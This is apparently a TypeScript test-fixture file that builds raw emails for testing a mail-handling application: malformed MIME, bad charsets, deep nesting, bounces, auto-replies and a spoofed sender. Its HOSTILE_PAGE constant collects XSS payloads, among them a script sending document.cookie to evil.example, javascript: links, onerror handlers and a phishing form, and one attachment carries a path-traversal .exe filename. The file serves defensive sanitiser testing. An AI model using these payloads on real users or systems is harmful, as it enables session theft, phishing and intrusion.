/** Mails as they come, and as nobody would write them: what a mailbox on the internet gets. */

const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

export interface Written {
  readonly id?: string;
  readonly from?: string;
  readonly to?: string;
  readonly subject?: string;
  readonly text?: string;
  readonly html?: string;
  /** Whole lines of the head. */
  readonly head?: readonly string[];
}

/** A plain mail. */
export function mailOf({
  id = `<${crypto.randomUUID()}@home.example>`,
  from = 'Thandi Nkosi <thandi@home.example>',
  to = 'sales@shop.example',
  subject = 'My cupboards',
  text = 'When do they come?',
  html,
  head = [],
}: Written = {}): string {
  const lines = [
    ...(id === '' ? [] : [`Message-ID: ${id}`]),
    `From: ${from}`,
    `To: ${to}`,
    `Subject: ${subject}`,
    'Date: Mon, 23 Nov 2026 09:00:00 +0200',
    'MIME-Version: 1.0',
    ...head,
    `Content-Type: ${html === undefined ? 'text/plain' : 'text/html'}; charset=utf-8`,
    'Content-Transfer-Encoding: 8bit',
    '',
    html ?? text,
  ];
  return `${lines.join('\r\n')}\r\n`;
}

const parts = (boundary: string, ...bodies: readonly string[]): string =>
  `${bodies.map((body) => `--${boundary}\r\n${body}`).join('\r\n')}\r\n--${boundary}--\r\n`;

/** A page that does whatever a page can. */
export const HOSTILE_PAGE = `<!doctype html><html><head><style>body{display:none}@import url(https://evil.example/x.css);</style>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"></head>
<body onload="alert(1)" background="https://evil.example/bg.png">
<script>fetch('https://evil.example/?c='+document.cookie)</script>
<p id="password" class="x" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:url(https://evil.example/css.png)">Hello <b>Sales</b></p>
<div style="margin:-500px;transform:translate(-100%);color:red;background-image:url('https://evil.example/b.png')">Red</div>
<a href="javascript:alert(document.domain)">pay here</a> <a href="JaVaScRiPt&#58;alert(1)">or here</a> <a href="vbscript:x">or</a>
<a href="data:text/html,<script>alert(1)</script>">data</a> <a href="https://bank.example.evil.example/login" onclick="x()">https://bank.example</a>
<img src="https://track.example/open.gif?who=42" width="1" height="1"><img src="//track.example/2.gif"><img src=x onerror="alert(1)">
<img src="cid:logo@home.example" alt="Our logo"><img src="data:image/svg+xml;base64,PHN2Zy8+">
<form action="https://evil.example"><input name="password"><button>Go</button></form>
<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x"><svg onload="alert(1)"><script>1</script></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<video src="https://evil.example/v.mp4" autoplay></video><link rel="stylesheet" href="https://evil.example/l.css">
<textarea><img src=x onerror=alert(1)></textarea><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
</body></html>`;

export const hostile = mailOf({
  id: '<hostile@home.example>',
  subject: 'Look at this',
  head: ['Content-Type: multipart/related; boundary=rel'],
  text: '',
}).replace(
  /Content-Type: text\/plain[\s\S]*$/,
  `\r\n${parts(
    'rel',
    `Content-Type: text/html; charset=utf-8\r\n\r\n${HOSTILE_PAGE}`,
    `Content-Type: image/png\r\nContent-ID: <logo@home.example>\r\nContent-Disposition: inline\r\nContent-Transfer-Encoding: base64\r\n\r\n${PNG}`,
    `Content-Type: application/octet-stream; name="../../invoice.pdf.exe"\r\nContent-Disposition: attachment; filename="../../invoice.pdf.exe"\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAAMAAAAEAAAA`,
  )}`,
);

/** Boundaries that never close, parts without heads, a boundary that is its own child. */
export const broken = [
  'From: "Broken',
  'To: sales@shop.example',
  'Subject: =?utf-8?B?VGhpcyBpcyBub3QgY2xvc2Vk',
  'Message-ID: no brackets at all',
  'Content-Type: multipart/mixed; boundary="a"',
  '',
  '--a',
  'Content-Type: multipart/mixed; boundary="a"',
  '',
  '--a',
  'Content-Transfer-Encoding: base64',
  '',
  '!!!! this is not base64 ????',
].join('\r\n');

/** A charset that is none, one that lies, a NUL, half of an emoji. */
export const wrongCharsets = [
  `Message-ID: <charset@home.example>\r\nFrom: =?x-unknown?Q?J=FCrgen?= <jurgen@home.example>\r\nTo: sales@shop.example\r\n` +
    `Subject: =?iso-8859-1?Q?K=FCche?=\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=x-klingon\r\nContent-Transfer-Encoding: 8bit\r\n\r\nK\u00fcche \u0000 fertig\r\n`,
  `Message-ID: <latin@home.example>\r\nFrom: Jürgen <jurgen@home.example>\r\nTo: sales@shop.example\r\nSubject: Maße\r\n` +
    `Content-Type: text/html; charset=utf-8\r\n\r\n<p>\ud83d half</p>\r\n`,
] as const;

/** More levels than anybody nests. */
export function nested(depth: number): string {
  let body = 'Content-Type: text/plain\r\n\r\nat the bottom';
  for (let level = depth; level > 0; level -= 1)
    body = `Content-Type: multipart/mixed; boundary="b${String(level)}"\r\n\r\n${parts(`b${String(level)}`, body)}`;
  return `Message-ID: <nested@home.example>\r\nFrom: deep@home.example\r\nTo: sales@shop.example\r\nSubject: Deep\r\nMIME-Version: 1.0\r\n${body}`;
}

export const manyParts = (count: number): string =>
  `Message-ID: <parts@home.example>\r\nFrom: many@home.example\r\nTo: sales@shop.example\r\nSubject: Parts\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=p\r\n\r\n${parts(
    'p',
    ...Array.from(
      { length: count },
      (_, at) =>
        `Content-Type: text/csv; name="f${String(at)}.csv"\r\nContent-Disposition: attachment; filename="f${String(at)}.csv"\r\n\r\na;b`,
    ),
  )}`;

export const toEverybody = (count: number): string =>
  mailOf({
    id: '<everybody@home.example>',
    subject: 'To all of you',
    to: Array.from({ length: count }, (_, at) => `Person ${String(at)} <p${String(at)}@home.example>`).join(',\r\n '),
  });

export const large = (bytes: number): string =>
  `${mailOf({ id: '<large@home.example>', subject: 'My whole album' })}${'x'.repeat(76)}\r\n`.padEnd(
    bytes,
    'album of pictures\r\n',
  );

export const spoofed = mailOf({
  id: '<spoof@evil.example>',
  from: '"owner@plinth.example" <x@evil.example>',
  subject: 'Please pay this today',
  head: ['Reply-To: cash@elsewhere.example'],
});

export const autoReply = (answers: string, id = '<away@home.example>'): string =>
  mailOf({
    id,
    subject: 'Automatic reply: away',
    text: 'I am away.',
    head: ['Auto-Submitted: auto-replied', `In-Reply-To: ${answers}`],
  });

/** A mail server says that a mail did not arrive. */
export const bounce = (messageId: string): string =>
  `Return-Path: <>\r\nMessage-ID: <bounce@mx.example>\r\nFrom: Mail Delivery System <MAILER-DAEMON@mx.example>\r\nTo: sales@shop.example\r\nSubject: Undelivered\r\n` +
  `Auto-Submitted: auto-replied\r\nMIME-Version: 1.0\r\nContent-Type: multipart/report; report-type=delivery-status; boundary=r\r\n\r\n${parts(
    'r',
    'Content-Type: text/plain\r\n\r\nNobody of that name.',
    'Content-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.example\r\n\r\nFinal-Recipient: rfc822; gone@home.example\r\nAction: failed\r\nStatus: 5.1.1',
    `Content-Type: message/rfc822-headers\r\n\r\nMessage-ID: ${messageId}\r\nSubject: Your quote`,
  )}`;
